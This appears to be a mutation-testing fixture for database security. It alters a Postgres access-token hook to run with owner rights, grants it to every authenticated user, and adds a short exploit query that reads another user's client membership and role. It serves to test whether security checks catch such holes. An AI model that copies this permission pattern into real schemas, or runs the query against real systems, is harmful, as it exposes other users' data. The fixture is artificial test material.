-- mutant: The access token hook runs with its owner's rights, and any user may call it
-- base: flows
-- family: function
-- leaks: which client a user belongs to, and with which permissions
alter function flows.access_token_hook(jsonb) security definer;
grant execute on function flows.access_token_hook(jsonb) to authenticated;

-- exploit as authenticated claims {"sub": "{{user_a}}", "role": "authenticated", "app_metadata": {"client_id": "{{a}}", "client_role": "member"}}
select claims from (select flows.access_token_hook('{"user_id": "{{b}}"}') -> 'claims' as claims) answer
where claims -> 'app_metadata' ->> 'client_id' = '{{b}}';
